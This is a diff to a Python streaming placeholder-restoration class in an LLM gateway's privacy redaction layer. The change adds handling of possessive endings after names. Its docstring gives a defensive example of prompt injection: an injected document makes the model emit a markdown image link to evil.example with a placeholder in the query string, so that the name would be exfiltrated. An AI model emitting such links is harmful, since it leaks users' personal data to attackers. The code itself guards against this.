@@ -4,11 +4,11 @@ A `Restorer` serves one channel (the text of one choice, the arguments of one to
 only; a complete answer is a stream of one chunk. It keeps these properties, whatever the cuts:
 
 * ``join(feed) + close`` is the same for every way of cutting;
-* only the longest suffix that could still become an *issued* placeholder is held back (at most `MAX_LENGTH`);
-  without a sentinel ``feed(x) == x``;
+* only the longest suffix that could still become an *issued* placeholder is held back (at most `MAX_LENGTH`), and
+  behind a name that ends in a sibilant an "s"; without a sentinel ``feed(x) == x``;
 * values are inserted once and never scanned again; unknown tokens stay and are counted;
 * nothing is restored inside a URL, a link target or an attribute of an HTML tag: an injected document could make the
-  model write ``![](https://evil.example/?q=[PERSON_1])``, and the name would leave with the picture.
+  model write ``![](https://evil.example/?q=[PERSON1])``, and the name would leave with the picture.
 
 It does not know JSON frames, dialects or HTTP.
 """
@@ -18,33 +18,39 @@ from __future__ import annotations
 import json
 from collections.abc import Mapping
 
+from gateway.redaction.ending import ENDINGS, ends_in_sibilant, goes_on
 from gateway.redaction.place import Place
 from gateway.redaction.placeholder import (
+    CLOSED,
     MAX_LENGTH,
+    OPEN,
     SENTINELS,
-    TOKEN,
-    canonical,
+    Issued,
+    Reading,
     find_sentinel,
-    may_become,
-    without_suffix,
+    read,
+    readings,
 )
+
+_WAIT = -1
 
 
 class Restorer:
     """Restores the placeholders of one exchange in one channel.
 
-    ``values`` maps the issued form (``[PERSON_1]``) to what the person wrote. With ``json_string`` the channel is the
-    source text of JSON (tool arguments), so a value is escaped where it lands. ``unresolved`` counts tokens that this
-    exchange never issued, ``withheld`` those left as they are because of the place they stood at.
+    ``values`` maps the issued form (``[PERSON1]``) to what the person wrote. With ``json_string`` the channel is the
+    source text of JSON (tool arguments), so a value is escaped where it lands. ``withheld`` counts the tokens left as
+    they are because of the place they stood at.
     """
 
-    def __init__(self, values: Mapping[str, str], *, json_string: bool = False) -> None:
-        self._values = values
+    def __init__(self, values: Mapping[str, str] | Issued, *, json_string: bool = False) -> None:
+        self._issued = values if isinstance(values, Issued) else Issued(values)
         self._json = json_string
         self._carry = ""
+        self._behind: Reading | None = None
+        """The name that was shown last, if it ends in a sibilant and nothing has followed it yet."""
         self._place = Place(json_string=json_string)
         self._raw: list[str] = []
-        self.unresolved = 0
         self.withheld = 0
 
     @property
@@ -52,10 +58,15 @@ class Restorer:
         """The channel as the provider sent it so far."""
         return "".join(self._raw)
 
+    @property
+    def unresolved(self) -> int:
+        """The number of tokens so far that this exchange never issued."""
+        return sum(self._issued.value(reading) is None for reading in readings(self.raw))
+
     def feed(self, text: str) -> str:
         """Take the next piece of the answer and return all that can be shown now."""
         self._raw.append(text)
-        if not self._carry and not any(s in text for s in SENTINELS):
+        if not self._carry and self._behind is None and not any(s in text for s in SENTINELS):
             self._place.shown(text)
             return text
         return self._run(self._carry + text, final=False)
@@ -65,50 +76,74 @@ class Restorer:
         return self._run(self._carry, final=True)
 
     def _run(self, text: str, *, final: bool) -> str:
-        self._carry = ""
         out: list[str] = []
-        position = 0
-        while True:
-            start = find_sentinel(text, position)
-            if start < 0:
+        done = 0
+        while (after := self._settle(out, text, done, final=final)) != _WAIT:
+            start = find_sentinel(text, after)
+            done = len(text) if start < 0 else start
+            self._show(out, text[after:done])
+            if start < 0 or (after := self._take(out, text, start, final=final)) == _WAIT:
                 break
-            self._show(out, text[position:start])
-            match = TOKEN.match(text, start, partial=not final)
-            if match is None or (match.partial and not self._waits(text[start:])):
-                self._show(out, text[start])
-                position = start + 1
-            elif match.partial:
-                self._carry = text[start:]
-                return "".join(out)
-            else:
-                self._show(out, self._value(match[0], canonical(match)))
-                position = match.end()
-        self._show(out, text[position:])
+            done = after
+        self._carry = text[done:]
         return "".join(out)
 
-    def _waits(self, tail: str) -> bool:
-        return len(tail) <= MAX_LENGTH and may_become(tail, self._values)
+    def _take(self, out: list[str], text: str, start: int, *, final: bool) -> int:
+        """Show the token that begins at `start`, or its first character if none does. Return where to go on."""
+        match = CLOSED.match(text, start, partial=not final)
+        if match is None:
+            match = OPEN.match(text, start)
+        elif match.partial:
+            tail = text[start:]
+            if len(tail) <= MAX_LENGTH and self._issued.may_become(tail):
+                return _WAIT
+            match = None
+        value = self._value(read(match)) if match else None
+        self._show(out, text[start] if value is None else value)
+        return match.end() if match and value is not None else start + 1
+
+    def _value(self, reading: Reading) -> str | None:
+        value = self._issued.value(reading)
+        if value is None:
+            return None
+        if self._place.is_unsafe():
+            self.withheld += 1
+            return None
+        shown = value
+        if reading.owns:
+            shown += self._genitive(reading, value)
+        elif reading.label == "PERSON" and ends_in_sibilant(value):
+            self._behind = reading
+        for _ in range(self._place.depth):
+            shown = json.dumps(shown, ensure_ascii=False)[1:-1]
+        return shown
+
+    def _settle(self, out: list[str], text: str, at: int, *, final: bool) -> int:
+        """Show the genitive ending at `at` as the name before it wants it. Return where to go on."""
+        if self._behind is None:
+            return at
+        undecided = not final and (at == len(text) or (at + 1 == len(text) and text[at] in ENDINGS))
+        if undecided:
+            return _WAIT
+        reading, self._behind = self._behind, None
+        following = text[at + 1:at + 2]
+        if text[at:at + 1] not in ENDINGS or goes_on(following) or (self._json and following == "\\"):
+            return at
+        self._show(out, self._genitive(reading, self._issued.value(reading) or ""))
+        return at + 1
+
+    def _genitive(self, reading: Reading, value: str) -> str:
+        if reading.label != "PERSON" or not ends_in_sibilant(value):
+            return "s"
+        return "" if value[-1] in ENDINGS and self._issued.has_form(reading.base, value[:-1]) else "’"
 
     def _show(self, out: list[str], text: str) -> None:
         if text:
             out.append(text)
             self._place.shown(text)
 
-    def _value(self, spelled: str, name: str) -> str:
-        value = self._values.get(name)
-        if value is None:  # the suffix is the model's own: the same person, in the form that came first
-            base = without_suffix(name)
-            value = next((v for issued, v in self._values.items() if without_suffix(issued) == base), None)
-        if value is None:
-            self.unresolved += 1
-            return spelled
-        if self._place.is_unsafe():
-            self.withheld += 1
-            return spelled
-        return json.dumps(value, ensure_ascii=False)[1:-1] if self._json else value
 
-
-def restore(text: str, values: Mapping[str, str]) -> str:
+def restore(text: str, values: Mapping[str, str] | Issued) -> str:
     """Restore a complete text: the stream of one chunk."""
     restorer = Restorer(values)
     return restorer.feed(text) + restorer.close()
